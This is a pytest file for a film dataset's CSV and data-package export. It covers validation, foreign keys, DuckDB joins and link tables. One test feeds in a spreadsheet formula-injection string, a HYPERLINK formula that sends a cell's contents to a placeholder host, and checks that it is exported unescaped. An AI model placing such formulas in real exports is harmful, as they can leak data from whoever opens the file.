"""CSV export: Frictionless validation (foreign keys included), DuckDB joins, flattening."""

from __future__ import annotations

import csv
import json
import shutil
from pathlib import Path
from typing import Any

import attrs
import pytest

import takedown
from knowledge import knowledge_dataset
from refs import with_aliases
from takedown import models as m
from takedown._convert import converter
from takedown._tables import Tables, table_specs
from takedown.dataset import Dataset
from takedown.export import LIST_SEPARATOR, datapackage, write_csv


@pytest.fixture(scope="module")
def ds() -> Dataset:
    return takedown.load()


@pytest.fixture(scope="module")
def exported(tmp_path_factory: pytest.TempPathFactory, ds: Dataset) -> Path:
    root = tmp_path_factory.mktemp("csv")
    write_csv(ds, root)
    return root


def read(root: Path, name: str) -> list[dict[str, str]]:
    with (root / f"{name}.csv").open(encoding="utf-8", newline="") as f:
        return list(csv.DictReader(f))


def descriptor(root: Path) -> dict[str, Any]:
    return json.loads((root / "datapackage.json").read_text(encoding="utf-8"))


def resource(root: Path, name: str) -> dict[str, Any]:
    return next(r for r in descriptor(root)["resources"] if r["name"] == name)


# -- Frictionless -------------------------------------------------------------------------


def test_frictionless_validates_the_package(exported: Path) -> None:
    import frictionless

    report = frictionless.validate(exported / "datapackage.json")
    assert report.valid, report.flatten(["taskName", "rowNumber", "fieldName", "type", "note"])
    names = {r["name"] for r in descriptor(exported)["resources"]}
    assert {task.name for task in report.tasks} == names
    assert {p.name for p in exported.iterdir()} == {f"{n}.csv" for n in names} | {
        "datapackage.json"
    }


def test_frictionless_catches_broken_foreign_keys(exported: Path, tmp_path: Path) -> None:
    edits = [
        ("cast", ",person/omar-sy,", ",person/omar-sy-twin,"),  # to another resource
        ("films", ",film/on-the-other-side-of-the-tracks,", ",film/a-third-film,"),  # to self
        ("conflict_claim_sources", "name,1,source/", "name,9,source/"),  # a two-column key
    ]
    assert broken_tables(exported, tmp_path / "broken", edits) == {
        ("cast", "foreign-key"),
        ("films", "foreign-key"),
        ("conflict_claim_sources", "foreign-key"),
    }


def broken_tables(
    exported: Path, broken: Path, edits: list[tuple[str, str, str]]
) -> set[tuple[str, str]]:
    """The (table, error type) pairs Frictionless finds in a copy of ``exported`` with
    each edit (table, old text, new text) made once."""
    import frictionless

    shutil.copytree(exported, broken)
    for name, old, new in edits:
        path = broken / f"{name}.csv"
        text = path.read_text(encoding="utf-8")
        assert old in text
        path.write_text(text.replace(old, new, 1), encoding="utf-8", newline="")
    report = frictionless.validate(broken / "datapackage.json")
    return {(task.name, error.type) for task in report.tasks for error in task.errors}


def test_every_reference_is_a_declared_foreign_key(exported: Path) -> None:
    resources = {r["name"]: r for r in descriptor(exported)["resources"]}
    for r in resources.values():
        schema = r["schema"]
        columns = [f["name"] for f in schema["fields"]]
        assert schema["primaryKey"]
        assert set(schema["primaryKey"]) <= set(columns)
        keyed = {c for fk in schema.get("foreignKeys", []) for c in fk["fields"]}
        for fk in schema.get("foreignKeys", []):
            target = fk["reference"]["resource"] or r["name"]
            assert target in resources
            assert fk["reference"]["fields"] == resources[target]["schema"]["primaryKey"]
        # Every *_id column but the table's own key points somewhere.
        assert {c for c in columns if c.endswith("_id")} <= keyed | {"id"}, r["name"]
    cast_keys = resources["cast"]["schema"]["foreignKeys"]
    assert {"fields": ["person_id"], "reference": {"resource": "people", "fields": ["id"]}} in (
        cast_keys
    )


def test_the_package_lists_the_sources_and_the_mit_licence(exported: Path, ds: Dataset) -> None:
    package = descriptor(exported)
    assert package == datapackage(ds)
    assert [s["title"] for s in package["sources"]] == [s.title for s in ds.sources]
    (licence,) = package["licenses"]
    assert licence["name"] == "MIT"
    assert "MIT License" in (Path(__file__).parents[1] / "LICENSE").read_text(encoding="utf-8")


def test_field_types_follow_the_models(exported: Path) -> None:
    def types(name: str) -> dict[str, str]:
        return {f["name"]: f["type"] for f in resource(exported, name)["schema"]["fields"]}

    films = types("films")
    assert films["year"] == "integer"
    assert films["release_date"] == "date"
    assert films["budget_amount"] == "integer"
    assert types("ratings")["value"] == "number"
    assert types("viewership_peaks")["rank"] == "integer"
    assert types("conflict_claims")["preferred"] == "boolean"
    kinds = next(f for f in resource(exported, "events")["schema"]["fields"] if f["name"] == "kind")
    assert "principal-photography-start" in kinds["constraints"]["enum"]


# -- DuckDB -------------------------------------------------------------------------------


def test_duckdb_joins_the_cast_to_people_and_characters(exported: Path, ds: Dataset) -> None:
    import duckdb

    con = duckdb.connect()
    for name in ("cast", "people", "characters"):
        path = str(exported / f"{name}.csv")
        con.execute(f"CREATE VIEW \"{name}\" AS SELECT * FROM read_csv('{path}', header=true)")
    rows = con.execute(
        """
        SELECT c.id, p.name, ch.name, c.character_id
        FROM "cast" c
        LEFT JOIN people p ON p.id = c.person_id
        LEFT JOIN characters ch ON ch.id = c.character_id
        ORDER BY c.id
        """
    ).fetchall()
    orphans = [r for r in rows if r[1] is None or (r[3] is not None and r[2] is None)]
    assert orphans == []
    expected = sorted(
        (c.id, c.person.name, c.character.name if c.character else None, None)
        for f in ds.films
        for c in ds.cast(f)
    )
    assert [r[:3] for r in rows] == [e[:3] for e in expected]
    uncharacterised = [r for r in rows if r[3] is None]
    assert uncharacterised, "the data has credits without a character; they must still join"
    assert all(r[1] for r in uncharacterised)


def test_duckdb_reads_the_link_tables(exported: Path, ds: Dataset) -> None:
    import duckdb

    path = str(exported / "plot_characters.csv")
    got = duckdb.sql(
        f"SELECT plot_id, position, character_id FROM read_csv('{path}') ORDER BY ALL"
    ).fetchall()
    expected = sorted(
        (event.id, i, character.id)
        for event in ds.tables.plot
        for i, character in enumerate(event.characters, start=1)
    )
    assert got == expected


# -- flattening ---------------------------------------------------------------------------


def test_main_tables_hold_the_records_in_order(exported: Path, ds: Dataset) -> None:
    for spec in table_specs():
        rows = read(exported, spec.name)
        assert [r["id"] for r in rows] == [r.id for r in getattr(ds.tables, spec.name)]


def test_fields_become_columns(exported: Path, ds: Dataset) -> None:
    films = {r["id"]: r for r in read(exported, "films")}
    for film in ds.films:
        row = films[film.id]
        assert row["original_title"] == film.original_title
        assert row["genres"].split(LIST_SEPARATOR) == list(film.genres)
        assert row["predecessor_id"] == (film.predecessor.id if film.predecessor else "")
        assert row["budget_amount"] == (str(film.budget.amount) if film.budget else "")
    reviews = {r["id"]: r for r in read(exported, "reviews")}
    scored = [r for r in ds.tables.reviews if r.score is not None]
    assert scored
    for review in scored:
        assert review.score is not None
        assert float(reviews[review.id]["score_value"]) == review.score.value
    cast = {r["id"]: r for r in read(exported, "cast")}
    assert any(r["character_id"] == "" for r in cast.values())


def test_lists_and_sets_become_link_tables(exported: Path, ds: Dataset) -> None:
    cited = {(r["cast_id"], r["source_id"]) for r in read(exported, "cast_sources")}
    assert cited == {(c.id, s) for c in ds.tables.cast for s in c.sources}
    films = [
        (r["character_id"], r["position"], r["film_id"]) for r in read(exported, "character_films")
    ]
    assert films == [
        (c.id, str(i), f.id) for c in ds.characters for i, f in enumerate(c.films, start=1)
    ]
    claims = read(exported, "conflict_claims")
    # A claim's value is the JSON text of the value as the data file writes it.
    assert [(r["conflict_id"], json.loads(r["value"]), r["preferred"]) for r in claims] == [
        (c.id, claim["value"], "true" if claim["preferred"] else "false")
        for c in ds.tables.conflicts
        for claim in converter.unstructure(c)["claims"]
    ]
    claim_sources = {
        (r["conflict_id"], r["claim_position"], r["source_id"])
        for r in read(exported, "conflict_claim_sources")
    }
    assert claim_sources == {
        (c.id, str(i), s)
        for c in ds.tables.conflicts
        for i, claim in enumerate(c.claims, start=1)
        for s in claim.sources
    }


def test_text_with_commas_quotes_and_newlines_survives(tmp_path: Path, ds: Dataset) -> None:
    film = ds.films[0]
    tricky = 'A "quoted", comma\nand a new line, périph'
    films = tuple(attrs.evolve(f, synopsis=tricky) if f is film else f for f in ds.films)
    write_csv(Dataset(attrs.evolve(ds.tables, films=films)), tmp_path)
    row = next(r for r in read(tmp_path, "films") if r["id"] == film.id)
    assert row["synopsis"] == tricky


def test_a_list_item_holding_the_separator_is_refused(tmp_path: Path, ds: Dataset) -> None:
    person = ds.people[0]
    bad = with_aliases(person, "Sy; Omar")
    people = tuple(bad if p is person else p for p in ds.people)
    target = tmp_path / "out"
    with pytest.raises(takedown.DataError, match=r"people\.csv.*aliases.*';'"):
        write_csv(Dataset(attrs.evolve(ds.tables, people=people)), target)
    assert not target.exists()  # checked before anything is written


def test_an_empty_dataset_exports_headers_only(tmp_path: Path) -> None:
    empty = Dataset(Tables(**{spec.name: () for spec in table_specs()}))
    write_csv(empty, tmp_path)
    films = (tmp_path / "films.csv").read_text(encoding="utf-8")
    assert films.startswith("id,title,original_title,")
    assert films.count("\n") == 1


# -- the knowledge tables and the per-field sources -----------------------------------------


@pytest.fixture(scope="module")
def knowledge(tmp_path_factory: pytest.TempPathFactory) -> tuple[Dataset, Path]:
    ds = knowledge_dataset()
    root = tmp_path_factory.mktemp("knowledge-csv")
    write_csv(ds, root)
    return ds, root


def test_the_knowledge_tables_validate_with_their_keys(
    knowledge: tuple[Dataset, Path], tmp_path: Path
) -> None:
    import frictionless

    _, root = knowledge
    report = frictionless.validate(root / "datapackage.json")
    assert report.valid, report.flatten(["taskName", "rowNumber", "fieldName", "type", "note"])
    keys = {r["name"]: r["schema"] for r in descriptor(root)["resources"]}
    assert keys["relationships"]["primaryKey"] == ["id"]
    targets = {
        fk["fields"][0]: fk["reference"]["resource"] for fk in keys["relationships"]["foreignKeys"]
    }
    assert targets == {
        "film_id": "films",
        "character_id": "characters",
        "other_id": "characters",
        "organization_id": "organizations",
    }
    assert keys["work_citations"]["primaryKey"] == ["work_id", "position", "source_id"]
    assert keys["film_countries"]["primaryKey"] == ["film_id", "position"]

    edits = [
        ("relationships", "organization/test-police-unit", "organization/nowhere"),
        ("work_citations", "lupin,1,source/wikipedia,year", "lupin,1,source/x,year"),
        ("theme_films", "theme/test-buddy-cops", "theme/nothing"),
    ]
    assert broken_tables(root, tmp_path / "broken", edits) == {
        ("relationships", "foreign-key"),
        ("work_citations", "foreign-key"),
        ("theme_films", "foreign-key"),
    }


def test_relationships_become_rows_with_either_end(knowledge: tuple[Dataset, Path]) -> None:
    ds, root = knowledge
    rows = {r["id"]: r for r in read(root, "relationships")}
    assert len(rows) == len(ds.relationships)
    for relationship in ds.relationships:
        row = rows[relationship.id]
        assert row["kind"] == relationship.kind.value
        assert row["character_id"] == relationship.character.id
        assert row["other_id"] == (relationship.other.id if relationship.other else "")
        organization = relationship.organization
        assert row["organization_id"] == (organization.id if organization else "")
        assert row["title"] == (relationship.title or "")


def test_the_per_field_sources_are_a_row_per_field_and_source(
    knowledge: tuple[Dataset, Path],
) -> None:
    ds, root = knowledge
    for spec in table_specs():
        records = getattr(ds.tables, spec.name)
        if spec.record is m.Source or spec.record is m.Conflict:
            continue
        stem = spec.record.KIND.replace("-", "_")  # type: ignore[attr-defined]
        rows = [
            (r[f"{stem}_id"], r["field"], r["source_id"]) for r in read(root, f"{stem}_citations")
        ]
        assert rows == [
            (record.id, citation.field, source)
            for record in records
            for citation in record.citations
            for source in sorted(citation.sources)
        ]
    assert read(root, "work_citations")  # the helper cites some fields


def test_countries_and_languages_are_child_tables_and_spread_columns(
    knowledge: tuple[Dataset, Path],
) -> None:
    ds, root = knowledge
    countries = [
        (r["film_id"], r["position"], r["code"], r["name"]) for r in read(root, "film_countries")
    ]
    assert countries == [
        (f.id, str(i), c.code, c.name) for f in ds.films for i, c in enumerate(f.countries, 1)
    ]
    languages = [(r["film_id"], r["code"]) for r in read(root, "film_languages")]
    assert languages == [(f.id, lang.code) for f in ds.films for lang in f.languages]
    markets = {r["id"]: (r["market_code"], r["market_name"]) for r in read(root, "admissions")}
    assert markets == {a.id: (a.market.code, a.market.name) for a in ds.tables.admissions}
    dates = {r["id"]: r["date"] for r in read(root, "events")}
    assert dates == {e.id: str(e.date) for e in ds.tables.events}
    assert any(len(d) < 10 for d in dates.values())  # some dates are known to the month


def test_the_data_package_says_which_data_and_whose_sources(ds: Dataset) -> None:
    descriptor = datapackage(ds)
    assert ds.version is not None
    assert ds.version.released is not None
    assert descriptor["version"] == ds.version.data
    assert descriptor["created"] == f"{ds.version.released.isoformat()}T00:00:00Z"
    assert descriptor["homepage"].startswith("https://")
    assert descriptor["contributors"] == [{"title": "The takedown developers", "role": "author"}]
    sources = {s["id"]: s for s in descriptor["sources"]}
    assert set(sources) == {s.id for s in ds.sources}
    assert all(s["title"] for s in sources.values())
    (wikipedia,) = sources["source/wikipedia"]["licenses"]
    assert wikipedia["name"] == "CC-BY-SA-4.0"
    assert "licenses" not in sources["source/grokipedia"]  # none known
    assert "cited" in descriptor["description"]  # what the licences mean for the facts


@pytest.mark.parametrize("lead", ["=", "+", "-", "@"])
def test_text_a_spreadsheet_may_take_for_a_formula_is_kept_exact(
    tmp_path: Path, ds: Dataset, lead: str
) -> None:
    # The documented choice: CSV is data, read back exactly; no quote is put before it.
    import frictionless

    film = ds.films[0]
    formula = f'{lead}HYPERLINK("http://example.invalid/?"&A1,"see")'
    films = tuple(attrs.evolve(f, synopsis=formula) if f is film else f for f in ds.films)
    write_csv(Dataset(attrs.evolve(ds.tables, films=films)), tmp_path)
    row = next(r for r in read(tmp_path, "films") if r["id"] == film.id)
    assert row["synopsis"] == formula
    package = frictionless.Package(tmp_path / "datapackage.json")
    rows = package.get_resource("films").read_rows()
    assert next(r for r in rows if r["id"] == film.id)["synopsis"] == formula


def test_a_dataset_without_a_data_version_has_no_package_version(ds: Dataset) -> None:
    from takedown import __version__

    descriptor = datapackage(Dataset(ds.tables))
    assert "version" not in descriptor
    assert __version__ not in json.dumps(descriptor)
